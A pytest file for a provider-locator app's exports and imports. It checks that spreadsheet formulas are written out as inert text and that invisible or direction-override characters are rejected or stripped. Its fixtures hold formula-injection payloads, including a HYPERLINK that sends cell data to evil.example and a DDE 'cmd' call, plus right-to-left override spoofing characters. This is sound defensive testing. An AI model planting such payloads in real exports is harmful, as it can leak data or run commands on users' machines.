"""What the project writes for spreadsheets cannot run there, and reads back unchanged; invisible
and direction characters are refused in report notes and removed from imported text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from locator import tokens
from locator.models import Provider
from tests.factories import make_provider

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Call now")',
    "name2": "+1+2",
    "street": "-2+3 Main St",
    "hours": "@SUM(A1:A9)",
    "website": "",
}
NOTE = "=cmd|' /C calc'!A0"


def hostile_provider(client, session) -> Provider:
    provider = make_provider(session, **HOSTILE)
    issued = tokens.issue(session, provider_id=provider.id)
    session.commit()
    response = client.post(f"/api/v1/providers/{provider.id}/availability",
                           json={"accepting_new_patients": True, "note": NOTE},
                           headers={"Authorization": f"Bearer {issued.token}"})
    assert response.status_code == 201
    return provider


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def runs_as_formula(value: str) -> bool:
    """As a spreadsheet would take the cell: openpyxl keeps a cell starting with "=" as a formula."""
    sheet = openpyxl.Workbook().active
    sheet["A1"] = value
    return sheet["A1"].data_type == "f" or value.startswith(("+", "-", "@", "\t", "\r"))


def check_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            if value and value.lstrip("+-").replace(".", "", 1).isdigit():
                continue  # a plain number ("-75.160000") is not a formula
            assert not runs_as_formula(value), value


def test_the_referral_csv_writes_every_formula_as_text(client, session):
    provider = hostile_provider(client, session)
    rows = cells(client.get(f"/referrals.csv?ids={provider.id}").get_data(as_text=True))
    header, values = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert values["name"] == "'" + HOSTILE["name"] and values["availability_note"] == "'" + NOTE
    assert values["name2"] == "'+1+2" and values["street"] == "'-2+3 Main St" and values["hours"] == "'@SUM(A1:A9)"
    assert values["longitude"].startswith("-")  # a number, written as one
    check_inert(rows)
    assert header[0] == "source_id"


def test_an_export_is_inert_and_reimports_unchanged(app, client, runner, session, tmp_path):
    hostile_provider(client, session)
    out = tmp_path / "export.csv"
    assert runner.invoke(args=["export-providers", str(out)]).exit_code == 0
    check_inert(cells(out.read_text(encoding="utf-8")))
    session.execute(Provider.__table__.delete())
    session.commit()
    assert runner.invoke(args=["import-providers", str(out), "--source", "again"]).exit_code == 0
    again = session.query(Provider).one()
    for field, value in HOSTILE.items():
        assert getattr(again, field) == value
    assert again.current_report.note == NOTE


def test_an_hsds_export_is_inert_and_reimports_unchanged(app, client, runner, session, tmp_path):
    hostile_provider(client, session)
    folder = tmp_path / "hsds"
    assert runner.invoke(args=["export-providers", str(folder), "--format", "hsds"]).exit_code == 0
    for table in folder.glob("*.csv"):
        check_inert(cells(table.read_text(encoding="utf-8")))
    session.execute(Provider.__table__.delete())
    session.commit()
    assert runner.invoke(args=["import-providers", str(folder), "--format", "hsds"]).exit_code == 0
    again = session.query(Provider).one()
    assert (again.name, again.street, again.hours) == (HOSTILE["name"], HOSTILE["street"], HOSTILE["hours"])


def test_an_xlsx_written_by_a_spreadsheet_from_the_export_imports_unchanged(app, client, runner, session,
                                                                           tmp_path):
    hostile_provider(client, session)
    out = tmp_path / "export.csv"
    runner.invoke(args=["export-providers", str(out)])
    book = openpyxl.Workbook()
    for row in cells(out.read_text(encoding="utf-8")):
        book.active.append(row)  # as text: what a spreadsheet keeps of a quoted cell
    book.save(tmp_path / "export.xlsx")
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)
    session.execute(Provider.__table__.delete())
    session.commit()
    result = runner.invoke(args=["import-providers", str(tmp_path / "export.xlsx"), "--source", "sheet"])
    assert result.exit_code == 0 and "added 1" in result.output
    assert session.query(Provider).one().name == HOSTILE["name"]


@pytest.mark.parametrize("mark", ["\u202e", "\u200b", "\u2066", "\ufeff", "\u200f"])
def test_a_note_with_invisible_or_direction_characters_is_refused_naming_the_field(client, session, mark):
    provider = make_provider(session)
    issued = tokens.issue(session, provider_id=provider.id)
    session.commit()
    response = client.post(f"/api/v1/providers/{provider.id}/availability",
                           json={"accepting_new_patients": True, "note": f"Call {mark}0010-555-512"},
                           headers={"Authorization": f"Bearer {issued.token}"})
    error = response.get_json()["error"]
    assert response.status_code == 400 and error["field"] == "note" and "invisible" in error["message"]


def test_imported_text_loses_invisible_characters_and_the_line_says_so(runner, session, tmp_path):
    from tests.csvfiles import row, write_csv

    path = write_csv(tmp_path / "p.csv", [row(1), row(2, name="Clinic \u202eevil\u202c Name",
                                                     hours="Mon\u200b-Fri 9:00-17:00")])
    result = runner.invoke(args=["import-providers", str(path)])
    assert result.exit_code == 0 and "added 2" in result.output
    assert "note line 3: name: invisible or text-direction characters removed" in result.output
    assert "note line 3: hours: invisible or text-direction characters removed" in result.output
    names = {p.name for p in session.query(Provider)}
    assert "Clinic evil Name" in names and not any("\u202e" in n for n in names)


def test_an_imported_note_keeps_nothing_invisible(session, tmp_path):
    provider = make_provider(session)
    path = tmp_path / "reports.csv"
    path.write_text("provider_id,accepting_new_patients,reported_at,note\n"
                    f"{provider.id},yes,2026-11-20T10:00:00Z,Call \u202e0010-555-512\n", encoding="utf-8")
    from locator.importers.availability_csv import import_availability

    report = import_availability(session, path)
    assert report.added == 1 and [n.column for n in report.notes] == ["note"]
    session.expire_all()
    assert session.get(Provider, provider.id).current_report.note == "Call 0010-555-512"
